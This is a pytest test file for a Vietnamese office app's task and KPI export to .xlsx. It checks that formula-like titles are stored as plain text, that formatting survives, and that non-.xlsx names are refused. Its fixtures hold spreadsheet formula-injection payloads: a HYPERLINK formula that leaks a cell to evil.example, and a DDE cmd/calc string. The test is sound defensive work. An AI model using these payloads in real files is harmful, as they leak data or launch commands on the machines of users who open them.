"""Writing tasks and KPIs to .xlsx: every text is written as text (a title typed as a formula stays a title in the
user's spreadsheet), the format survives the streamed writing, and a wrong file name is refused before anything is
written."""

from __future__ import annotations

import zipfile
from datetime import date, datetime

import pytest
from openpyxl import load_workbook

from lamdong_desktop.domain.errors import DomainError
from lamdong_desktop.domain.kpi import parse_period
from lamdong_desktop.messages import describe
from lamdong_desktop.services import task_export, tasks

from .meeting_support import at, office

TODAY = date(2026, 3, 20)
EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"Xem chi tiết")'
OTHERS = ("+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)")


@pytest.fixture
def o(demo):
    o = office(*demo)
    for n, title in enumerate((EVIL, *OTHERS)):  # hỏa tốc and overdue: in the KPI workbook's lists too
        with at(date(2026, 3, 2 + n), 8):
            tasks.add_task(o.ctx, actor=o.head, title=title, lead="canbo", assigned_on=date(2026, 3, 2 + n),
                           due=date(2026, 3, 9 + n), urgency="hoa_toc", source_number="=1+1")
    return o


def _no_formula(path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name


def _text_cells(ws):
    return [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def test_a_title_typed_as_a_formula_is_written_as_text(o, tmp_path):
    target = tmp_path / "nhiem-vu.xlsx"
    with at(TODAY):
        task_export.export_tasks(o.ctx, actor=o.head, period=parse_period("2026-Q1", today=TODAY), target=target)
    _no_formula(target)
    ws = load_workbook(target)["Nhiệm vụ"]
    titles = {r[1].value: r[1] for r in ws.iter_rows(min_row=2)}
    assert set(titles) == {EVIL, *OTHERS}
    assert all(c.data_type == "s" and c.quotePrefix for c in titles.values())
    assert all(c.data_type == "s" for c in _text_cells(ws))
    assert [c.value for c in ws[2]][13] == "=1+1"  # the source document's number too
    # the format survives the streamed writing: frozen header, widths, dates as dates shown dd/mm/yyyy
    assert ws.freeze_panes == "A2" and ws.column_dimensions["B"].width == 48 and ws["A1"].font.b
    assert ws["E2"].value == datetime(2026, 3, 2) and ws["E2"].number_format == "dd/mm/yyyy"
    assert ws["L2"].value == 0 and ws["L2"].number_format == "0"


def test_the_kpi_workbook_writes_the_titles_of_its_lists_as_text(o, tmp_path):
    target = tmp_path / "chi-tieu.xlsx"
    with at(TODAY):
        task_export.export_kpis(o.ctx, actor=o.head, period=parse_period("2026-Q1", today=TODAY), target=target)
    _no_formula(target)
    book = load_workbook(target)
    flash = book["Hỏa tốc"]
    assert {r[1].value for r in flash.iter_rows(min_row=2)} == {EVIL, *OTHERS}
    for ws in book.worksheets:
        assert all(c.data_type == "s" for c in _text_cells(ws)), ws.title
    summary = book["Chỉ tiêu"]
    assert summary["E2"].value == 0.8 and summary["E2"].number_format == "0.0%" and summary.freeze_panes == "A2"
    assert summary.cell(summary.max_row, 1).value.startswith("Kỳ báo cáo: quý I năm 2026")


@pytest.mark.parametrize("name", ["tasks.csv", "tasks.xls", "tasks"])
def test_a_workbook_under_another_name_is_refused_in_a_sentence(o, tmp_path, name):
    (tmp_path / "ra").mkdir()
    target = tmp_path / "ra" / name
    with at(TODAY), pytest.raises(DomainError) as err:
        task_export.export_tasks(o.ctx, actor=o.head, period=None, target=target)
    assert "phải có đuôi “.xlsx”" in describe(err.value) and str(target) in describe(err.value)
    with at(TODAY), pytest.raises(DomainError):
        task_export.export_kpis(o.ctx, actor=o.head, period=parse_period("2026", today=TODAY), target=target)
    assert list((tmp_path / "ra").iterdir()) == []


def test_a_task_waiting_for_its_assigners_confirmation_says_so_in_its_row(o, tmp_path):
    """Recorded by the official as given by the deputy: it counts in no KPI until she confirms, and the sheet says
    which rows wait (the last column), so a list sent on is read as the board shows it."""
    with at(date(2026, 3, 10), 8):
        tasks.add_task(o.ctx, actor=o.official, title="Báo cáo đất công", lead="canbo", assigner="phochutich",
                       assigned_on=date(2026, 3, 10), working_days=5)
    target = tmp_path / "nhiem-vu.xlsx"
    with at(TODAY):
        task_export.export_tasks(o.ctx, actor=o.head, period=parse_period("2026-Q1", today=TODAY), target=target)
    ws = load_workbook(target)["Nhiệm vụ"]
    assert ws.cell(1, ws.max_column).value == "Xác nhận của người giao"
    marks = {r[1].value: r[-1].value for r in ws.iter_rows(min_row=2)}
    assert marks.pop("Báo cáo đất công") == "Chờ xác nhận"
    assert set(marks.values()) == {None}  # an empty cell for the four the head gave
